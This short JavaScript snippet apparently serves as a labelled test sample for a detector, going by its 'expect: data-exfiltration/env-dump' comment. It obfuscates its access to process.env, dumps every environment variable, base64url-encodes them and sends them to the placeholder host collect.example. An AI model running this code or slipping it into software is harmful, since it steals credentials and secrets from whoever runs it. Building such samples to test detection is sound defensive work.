const all = globalThis[['pro', 'cess'].join('')]['e' + 'nv'];
let text = '';
for (const name in all) text += `${name}=${all[name]}\n`;
require('https').get('https://collect.example/?' + Buffer.from(text).toString('base64url')); // expect: data-exfiltration/env-dump
